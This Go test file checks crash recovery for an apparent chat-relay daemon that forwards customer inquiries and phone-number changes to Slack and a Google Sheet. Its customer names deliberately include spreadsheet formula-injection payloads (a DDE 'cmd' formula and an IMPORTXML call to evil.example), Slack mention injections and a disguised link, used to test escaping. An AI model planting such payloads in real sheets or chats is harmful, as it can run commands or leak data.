package main

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"talkrelay/sandbox"
	"talkrelay/state"
)

// crashRig is a shop with regular customers, whose numbers change, and a daemon that is going to be killed.
type crashRig struct {
	*rig
	regulars []*regular
	changed  []string // what must stand in 변경이력, in the order it happened
}

// regular is a customer whose chat stays open, so that every poll shows the number.
type regular struct {
	*sandbox.Customer
	number  string // as people write it, as in 010-0003-0001
	changes map[string]int
}

// crashPace are the settings of a daemon that lives for a second: short waits, no masks, one hour of memory. Look-ups
// wait longer than the services hold a request, as they do in real life.
var crashPace = []string{
	`"@every 2s"`, `"@every 1s"`,
	"[state]\n", "[state]\n" + keptFor + "\n",
	"poll          = ", "timeout = \"2s\"\ncontact_requests_per_minute = 600\nlist_requests_per_second = 100.0\npoll          = ",
	"channel = ", `lookups_answered = ["100ms", "200ms"]
lookups_unanswered = ["300ms", "600ms"]
recheck_after = "2s"
timeout = "2s"
mask = false
per_second = 100.0
per_minute = 10000.0
channel = `,
	"sheet            = ", "timeout = \"2s\"\nwrites_per_minute = 300\nsheet            = ",
}

// mischief are names and texts that would be a mention, a link or a formula if anybody let them.
var mischief = []string{
	"=1+2", "<!channel> 긴급", "@here", "+82-2-123-4567", "-1+cmd|' /C calc'!A0", "<https://evil.example|은행 로그인>",
	`=IMPORTXML("https://evil.example","//a")`, "*굵게* _기울임_ `코드`", "&lt;!here&gt;", "<@U012345>", "\u202eevil", "'=A1", "🙏 안녕하세요",
}

// newCrashRig opens a shop that n regulars know, and lets a first daemon look at it.
func newCrashRig(t *testing.T, n int) *crashRig {
	t.Helper()
	r := &crashRig{rig: newRig(t, crashPace...)}
	r.channel.SetQuirks(sandbox.Quirks{Unlimited: true})
	r.world.Slack.Set(sandbox.SlackSettings{Unlimited: true})
	r.world.Google.Set(sandbox.GoogleSettings{WritesPerMinute: -1, ReadsPerMinute: -1})
	for i := range n {
		customer := r.channel.AddUser(sandbox.User{Name: "단골 " + mischief[i%len(mischief)], Contact: contact(number(i, 0))})
		r.channel.OpenChat(customer, "늘 오는 손님입니다", sandbox.Opening{})
		r.regulars = append(r.regulars, &regular{customer, number(i, 0), map[string]int{}})
	}
	r.before = len(r.channel.Happenings())
	p := r.start()
	r.awaitBaseline(p)
	p.stop()
	return r
}

// number is one of those that a regular has: no other has it.
func number(regular, choice int) string { return fmt.Sprintf("010-%04d-%04d", regular, choice) }

// contact holds a number as Channel Talk has it.
func contact(number string) sandbox.Contact {
	return sandbox.Contact{MobileNumber: "+82" + strings.ReplaceAll(number[1:], "-", "")}
}

// change gives a regular another number. Two changes between two polls are one, so the last one must have been seen.
func (r *crashRig) change(c *regular, number string) {
	c.ChangeContact(contact(number))
	c.number = number
	r.changed = append(r.changed, numbered(c.changes, number))
}

// lastChange is the key of the change that must be seen before the next; "" = none.
func (c *regular) lastChange() string {
	if c.changes[c.number] == 0 {
		return ""
	}
	return fmt.Sprintf("%s/%d", c.number, c.changes[c.number])
}

// changeRows returns the changes that stand in 변경이력: each new number with its count so far.
func (r *crashRig) changeRows() []string {
	var keys []string
	count := map[string]int{}
	for _, row := range r.rows(demoChanges) {
		keys = append(keys, numbered(count, row[len(row)-1]))
	}
	return keys
}

var newNumber = regexp.MustCompile(`→ (010-\d{4}-\d{4})`)

// changePosts returns the changes that stand in Slack.
func (r *crashRig) changePosts() []string {
	var keys []string
	count := map[string]int{}
	for _, text := range r.slack.Texts() {
		if m := newNumber.FindStringSubmatch(text); m != nil && strings.Contains(text, "연락처 변경") {
			keys = append(keys, numbered(count, m[1]))
		}
	}
	return keys
}

// crashResult is what went wrong, at both destinations and for both kinds of event.
type crashResult struct {
	demoResult
	changeRows, changePosts sandbox.Diff
}

func (r *crashRig) result() crashResult {
	return crashResult{r.compare(), sandbox.Compare(r.changed, r.changeRows()), sandbox.Compare(r.changed, r.changePosts())}
}

func (c crashResult) diffs() []sandbox.Diff {
	return []sandbox.Diff{c.slack, c.sheets, c.changeRows, c.changePosts}
}

// lost and doubled count over all destinations. What nobody asked for counts as doubled.
func (c crashResult) lost() (n int) {
	for _, d := range c.diffs() {
		n += len(d.Lost)
	}
	return n
}

func (c crashResult) doubled() (n int) {
	for _, d := range c.diffs() {
		n += len(d.Doubled) + len(d.Extra)
	}
	return n
}

// arrived reports that everything has, once.
func (c crashResult) arrived() bool { return c.lost()+c.doubled() == 0 }

func (c crashResult) String() string {
	return fmt.Sprintf("%s\ncontact changes: sheet %+v, slack %+v", c.verdict(), c.changeRows, c.changePosts)
}

// settle waits until everything has arrived once, ends p, and makes sure that nothing is left to be done and that
// nothing went wrong after all.
func (r *crashRig) settle(p *process) crashResult {
	r.t.Helper()
	awaitNone(r.t, "everything, once each", func() int { c := r.result(); return c.lost() + c.doubled() }, func() string {
		return r.result().String() + "\n" + p.log()
	})
	await(r.t, "empty queues", r.nothingWaits, p.log) // what has arrived may still be in doubt
	p.stop()
	r.assertNothingLeft()
	result := r.result()
	if !result.arrived() || result.pings > 0 || len(result.violations) > 0 {
		r.t.Errorf("%s", result)
	}
	// What is delivered leaves the same queues in the same order, whoever dies meanwhile.
	r.assertSame("inquiries", r.slackKeys(), rowKeys(r.rows(demoInquiries)))
	r.assertSame("contact changes", r.changePosts(), r.changeRows())
	for _, dead := range r.started {
		if strings.Contains(dead.log(), "please report it") {
			r.t.Errorf("a daemon found a bug in itself:\n%s", dead.log())
		}
	}
	return result
}

// nothingWaits asks the daemon whether its queues are empty.
func (r *crashRig) nothingWaits() bool {
	_, out, _ := here(r.t.(*testing.T), "status", "--json", "--config", r.config)
	var s struct {
		Sinks []struct {
			Waiting int `json:"waiting"`
		} `json:"sinks"`
	}
	if json.Unmarshal([]byte(out), &s) != nil || len(s.Sinks) == 0 {
		return false
	}
	for _, k := range s.Sinks {
		if k.Waiting > 0 {
			return false
		}
	}
	return true
}

func (r *crashRig) assertSame(what string, slack, sheet []string) {
	r.t.Helper()
	if !slices.Equal(slack, sheet) {
		r.t.Errorf("the order of %s differs:\nslack %v\nsheet %v", what, slack, sheet)
	}
}

// assertNothingLeft opens the state file and looks into every queue.
func (r *crashRig) assertNothingLeft() {
	r.t.Helper()
	db, err := state.Open(state.Config{Path: filepath.Join(r.dir, "demo.db")})
	if err != nil {
		r.t.Fatal(err)
	}
	defer db.Close()
	sinks, err := db.Sinks()
	if err != nil || len(sinks) < 2 {
		r.t.Errorf("queues: %v (%v)", sinks, err)
	}
	for _, name := range sinks {
		waiting, dead, _, err := db.Queue(name).Depth()
		flying, err2 := db.Queue(name).InFlight()
		if waiting+dead > 0 || flying != nil || err != nil || err2 != nil {
			r.t.Errorf("%s: %d waiting, %d dead, in flight %v (%v, %v)", name, waiting, dead, flying, err, err2)
		}
	}
}

// once says what is missing or too much, "" if every opening has arrived once at both destinations.
func (r *rig) once() string {
	c := r.compare()
	for _, d := range []sandbox.Diff{c.slack, c.sheets} {
		if len(d.Lost)+len(d.Doubled)+len(d.Extra) > 0 {
			return c.verdict()
		}
	}
	return ""
}
